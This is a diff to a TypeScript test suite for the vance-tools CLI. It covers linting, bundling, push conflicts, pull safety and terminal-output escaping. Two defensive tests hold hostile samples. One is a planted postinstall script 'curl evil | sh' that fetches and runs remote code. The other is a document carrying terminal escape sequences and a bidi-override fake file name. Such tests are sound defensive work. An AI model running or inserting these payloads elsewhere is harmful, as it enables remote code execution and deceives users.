@@ -1,5 +1,5 @@
 import { execFile } from "node:child_process";
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { runCli } from "@vance/cli";
@@ -135,10 +135,97 @@ describe("vance-tools lint (offline, the service's own parsers)", () => {
     expect(at("slow.yaml")).toEqual([[6, "validation_failed"]]);
   });
 
+  it("takes a folder of tool files, single files and scripts, as linters do", async () => {
+    const dir = folder({
+      "tools/fine.yaml": doc("Fine"),
+      "tools/typo.yml": "type: doc_lookup\ndescripton: d\nparameters: { path: a.md }\n",
+      "tools/README.md": "not a document\n",
+      "mcp-servers/issues.yaml": "url: https://mcp.example.com/mcp\ntimeoutMS: 5\n",
+      "scripts/broken.js": "const a = 1;\na +\n",
+      "layer/server-tools/adds.yaml":
+        "type: scripted\ndescription: d\nparameters:\n  inputs: []\n  source: |\n    1 +\n",
+      "layer/documents/helper.js": "function (\n",
+    });
+    const tools = await runHere(["--json", "lint", join(dir, "tools")]);
+    expect(JSON.parse(tools.stdout)).toEqual({
+      files: 2,
+      problems: [
+        {
+          file: join(dir, "tools/typo.yml"),
+          line: 1,
+          code: "validation_failed",
+          message: "description: missing required field",
+        },
+        {
+          file: join(dir, "tools/typo.yml"),
+          line: 2,
+          code: "validation_failed",
+          message: "descripton: unknown field; did you mean 'description'?",
+        },
+      ],
+    });
+    const files = await run([
+      "lint",
+      join(dir, "tools/fine.yaml"),
+      join(dir, "mcp-servers/issues.yaml"),
+      join(dir, "scripts/broken.js"),
+    ]);
+    expect(files.code).toBe(1);
+    expect(files.stdout.trim().split("\n")).toEqual([
+      `${join(dir, "mcp-servers/issues.yaml")}:2: timeoutMS: unknown field; did you mean 'timeoutMs'? [validation_failed]`,
+      `${join(dir, "scripts/broken.js")}:3: the script does not compile: Unexpected token (line 3, column 1) [validation_failed]`,
+    ]);
+    const layer = JSON.parse((await runHere(["--json", "lint", join(dir, "layer")])).stdout);
+    expect(
+      layer.problems.map((p: { file: string; line: number }) => [p.file.slice(dir.length), p.line]),
+    ).toEqual([
+      ["/layer/server-tools/adds.yaml", 7],
+      ["/layer/documents/helper.js", 1],
+    ]);
+    const none = await runHere(["lint", join(dir, "tools", "README.md").replace("README.md", "")]);
+    expect(none.code).toBe(1);
+    const empty = await runHere(["lint", folder({ "notes.txt": "x\n" })]);
+    expect(empty.code).toBe(1);
+    expect(empty.stderr).toMatch(/^error: no documents to lint in /);
+  });
+
   it("exits 0 on a good folder", async () => {
     const { code, stdout, stderr } = await run(["lint", folder(TEN)]);
     expect({ code, stdout }).toEqual({ code: 0, stdout: "" });
     expect(stderr).toContain("10 documents valid");
+  });
+});
+
+describe("vance-tools as installed", () => {
+  it("is one plain JavaScript file that runs without the repository (no TypeScript loader at run time)", async () => {
+    const bin = readFileSync(join(process.cwd(), "packages/cli/bin/vance-tools.js"), "utf8");
+    expect(bin).not.toContain("tsx");
+    const pkg = JSON.parse(readFileSync(join(process.cwd(), "packages/cli/package.json"), "utf8"));
+    expect(Object.keys(pkg.dependencies)).not.toContain("tsx");
+    const root = JSON.parse(readFileSync(join(process.cwd(), "package.json"), "utf8"));
+    expect(root.scripts.prepare).toBe("npm run build:cli");
+    // Copied where no node_modules is above it: it needs nothing it does not carry.
+    const alone = mkdtempSync(join(tmpdir(), "vance-bundle-"));
+    copyFileSync(join(process.cwd(), "packages/cli/dist/vance-tools.mjs"), join(alone, "vance-tools.mjs"));
+    const help = await new Promise<Run>((resolve) =>
+      execFile(
+        process.execPath,
+        [join(alone, "vance-tools.mjs"), "--help"],
+        { cwd: alone },
+        (error, stdout, stderr) => resolve({ code: error ? 1 : 0, stdout, stderr }),
+      ),
+    );
+    expect(help.code, help.stderr).toBe(0);
+    expect(help.stdout).toContain("Usage: vance-tools");
+    const lint = await new Promise<Run>((resolve) =>
+      execFile(
+        process.execPath,
+        [join(alone, "vance-tools.mjs"), "lint", folder(TEN)],
+        { cwd: alone },
+        (error, stdout, stderr) => resolve({ code: error ? 1 : 0, stdout, stderr }),
+      ),
+    );
+    expect(lint.stderr).toContain("10 documents valid");
   });
 });
 
@@ -194,11 +281,15 @@ describe("vance-tools against the running server", () => {
   });
 
   it("push replaces what changed, reports server refusals with their lines, and stops at the first conflict unless --force", async () => {
-    const dir = folder({
-      "documents/notes": "a document where another layer document has a folder\n",
-      "server-tools/cli_tool_0.yaml": doc("CLI tool 0, changed", "labels: [cli]\n"),
-      "server-tools/zz_bad.yaml": "type: doc_lookup\ndescription: d\nparameters:\n  nope: 1\n",
-    });
+    const dir = mkdtempSync(join(tmpdir(), "vance-cli-"));
+    expect((await runHere(["pull", dir])).code).toBe(0);
+    mkdirSync(join(dir, "documents"));
+    writeFileSync(join(dir, "documents", "notes"), "a document where another layer document has a folder\n");
+    writeFileSync(join(dir, "server-tools/cli_tool_0.yaml"), doc("CLI tool 0, changed", "labels: [cli]\n"));
+    writeFileSync(
+      join(dir, "server-tools/zz_bad.yaml"),
+      "type: doc_lookup\ndescription: d\nparameters:\n  nope: 1\n",
+    );
     const other = folder({ "documents/notes/today.md": "# Today\n" });
     expect((await runHere(["push", other])).code).toBe(0);
 
@@ -209,8 +300,142 @@ describe("vance-tools against the running server", () => {
     const forced = await run(["push", "--force", dir]);
     expect(forced.code).toBe(1);
     expect(forced.stdout).toContain("failed documents/notes");
-    expect(forced.stdout).toMatch(/server-tools\/zz_bad\.yaml:4: parameters\.nope: /);
-    expect(forced.stdout.trim().split("\n").at(-1)).toBe("created 0, replaced 1, unchanged 0, failed 2");
+    expect(forced.stdout).toMatch(
+      /server-tools\/zz_bad\.yaml:4: parameters\.nope: unknown field; the fields here are path$/m,
+    );
+    expect(forced.stdout.trim().split("\n").at(-1)).toBe("created 0, replaced 1, unchanged 9, failed 2");
+  });
+
+  it("push sends nothing when a colleague changed a document on the server since this folder's last pull, unless --force", async () => {
+    const mine = mkdtempSync(join(tmpdir(), "vance-mine-"));
+    const theirs = mkdtempSync(join(tmpdir(), "vance-theirs-"));
+    const project = { VANCE_PROJECT: "colleagues" };
+    const seed = folder({ "server-tools/shared_a.yaml": doc("A"), "server-tools/shared_b.yaml": doc("B") });
+    expect((await runHere(["push", seed], project)).code).toBe(0);
+    expect((await runHere(["pull", mine], project)).code).toBe(0);
+    expect((await runHere(["pull", theirs], project)).code).toBe(0);
+    expect(JSON.parse(readFileSync(join(mine, ".vance-tools.json"), "utf8")).version).toBe(1);
+
+    writeFileSync(join(theirs, "server-tools/shared_a.yaml"), doc("A, as the colleague wrote it"));
+    expect((await runHere(["push", theirs], project)).stdout.trim()).toBe(
+      "created 0, replaced 1, unchanged 1, failed 0",
+    );
+    writeFileSync(join(mine, "server-tools/shared_a.yaml"), doc("A, mine"));
+    writeFileSync(join(mine, "server-tools/shared_b.yaml"), doc("B, mine"));
+    const refused = await run(["push", mine], project);
+    expect(refused.code).toBe(1);
+    expect(refused.stdout).toContain(
+      "conflict: server-tools/shared_a.yaml changed on the server since the last pull or push here",
+    );
+    expect(refused.stdout).toContain("nothing sent: 1 document(s) changed on the server");
+    const stored = await runHere(["get", "shared_b"], project);
+    expect(stored.stdout).toBe(doc("B"));
+
+    // A document stored there that this folder never pulled is a conflict too.
+    const fresh = folder({ "server-tools/shared_a.yaml": doc("A, from a fresh folder") });
+    const unseen = JSON.parse((await runHere(["--json", "push", fresh], project)).stdout);
+    expect(unseen.conflicts).toEqual([
+      expect.objectContaining({ path: "server-tools/shared_a.yaml", code: "changed_on_server" }),
+    ]);
+
+    const forced = await runHere(["push", "--force", mine], project);
+    expect(forced.stdout.trim()).toBe("created 0, replaced 2, unchanged 0, failed 0");
+    // After a push the folder knows the new ETags: the next edit goes through without --force.
+    writeFileSync(join(mine, "server-tools/shared_b.yaml"), doc("B, mine again"));
+    expect((await runHere(["push", mine], project)).stdout.trim()).toBe(
+      "created 0, replaced 1, unchanged 1, failed 0",
+    );
+  });
+
+  it("pull writes only documents inside folders: a stored package.json never replaces the repository's own", async () => {
+    const headers = { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "application/json" };
+    const base = `${server.base}/v1/tenants/acme/projects/planted/documents`;
+    const planted = JSON.stringify({ scripts: { postinstall: "curl evil | sh" } });
+    expect((await fetch(`${base}/package.json`, { method: "PUT", headers, body: planted })).status).toBe(201);
+    expect(
+      (await fetch(`${base}/node_modules/left/index.js`, { method: "PUT", headers, body: "1\n" })).status,
+    ).toBe(201);
+    expect(
+      (
+        await fetch(`${base}/server-tools/kept.yaml`, {
+          method: "PUT",
+          // A YAML document: one sent as application/json must be JSON (400 invalid_json).
+          headers: { ...headers, "content-type": "application/yaml" },
+          body: doc("Kept"),
+        })
+      ).status,
+    ).toBe(201);
+    const dir = folder({ "package.json": '{ "name": "my-config" }\n' });
+    const pulled = await runHere(["pull", dir], { VANCE_PROJECT: "planted" });
+    expect(pulled.code).toBe(0);
+    expect(readFileSync(join(dir, "package.json"), "utf8")).toBe('{ "name": "my-config" }\n');
+    expect(existsSync(join(dir, "node_modules"))).toBe(false);
+    expect(readFileSync(join(dir, "server-tools/kept.yaml"), "utf8")).toBe(doc("Kept"));
+    expect(pulled.stdout).toContain(
+      "left out package.json: a file at the folder's top is the repository's own",
+    );
+    expect(pulled.stdout).toContain(
+      "left out node_modules/left/index.js: 'node_modules/' holds installed packages",
+    );
+    expect(pulled.stdout.trim().split("\n").at(-1)).toMatch(/^pulled 1 document\(s\) of the project layer/);
+  });
+
+  it("neutralises escape sequences and bidi overrides a server sends when printing to a terminal; a pipe gets the bytes", async () => {
+    const headers = { authorization: `Bearer ${env.VANCE_TOKEN}`, "content-type": "text/markdown" };
+    const base = `${server.base}/v1/tenants/acme/projects/hostile`;
+    const hostile = "Report\u001b]0;pwned\u0007\u001b[2J\u001b[1A ok \u202egnp.exe\r fake\n";
+    expect(
+      (await fetch(`${base}/documents/documents/evil.md`, { method: "PUT", headers, body: hostile })).status,
+    ).toBe(201);
+    const tool = "type: doc_lookup\ndescription: Evil\nparameters: { path: documents/evil.md }\n";
+    expect(
+      (
+        await fetch(`${base}/tools/evil`, {
+          method: "PUT",
+          headers: { ...headers, "content-type": "application/yaml" },
+          body: tool,
+        })
+      ).status,
+    ).toBe(201);
+    let out = "";
+    const code = await runCli(
+      ["node", "vance-tools", "invoke", "evil"],
+      {
+        out: { write: (text: string) => (out += text), isTTY: true },
+        err: { write: () => true, isTTY: true },
+      },
+      { ...env, VANCE_PROJECT: "hostile" },
+    );
+    expect(code).toBe(0);
+    expect(out).toBe("Report\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[1A ok \\u202egnp.exe\\u000d fake\n\n");
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: no raw control character may be left
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
+    const piped = await runHere(["invoke", "evil"], { VANCE_PROJECT: "hostile" });
+    expect(piped.stdout).toBe(`${hostile}\n`);
+  });
+
+  it("says so when there is nothing: no usage, no secrets, nothing to pull or push", async () => {
+    const fresh = {
+      VANCE_TENANT: "emptyco",
+      VANCE_PROJECT: "nothing",
+      VANCE_TOKEN: await token("emptyco", ["read", "write", "admin"]),
+    };
+    expect((await runHere(["usage"], fresh)).stdout.trim()).toBe(
+      "no usage recorded in emptyco/nothing yet: calls are counted per role from the first invoke",
+    );
+    expect((await runHere(["secrets", "list"], fresh)).stdout.trim()).toBe(
+      "tenant emptyco has no secrets (vance-tools secrets set NAME stores one)",
+    );
+    expect((await runHere(["list", "--label", "none_such"], fresh)).stdout.trim()).toBe(
+      "no tools labelled 'none_such' in emptyco/nothing",
+    );
+    const dir = mkdtempSync(join(tmpdir(), "vance-empty-"));
+    expect((await runHere(["pull", dir], fresh)).stdout.trim()).toBe(
+      "the project layer of emptyco/nothing has no documents to pull; nothing written",
+    );
+    const push = await runHere(["push", folder({ "README.md": "# only a readme\n" })], fresh);
+    expect(push.code).toBe(1);
+    expect(push.stderr).toMatch(/^error: no documents in .*: documents live in its sub-folders/);
   });
 
   it("push and pull read the layer alone (GET T/documents): not the cascade's other layers", async () => {
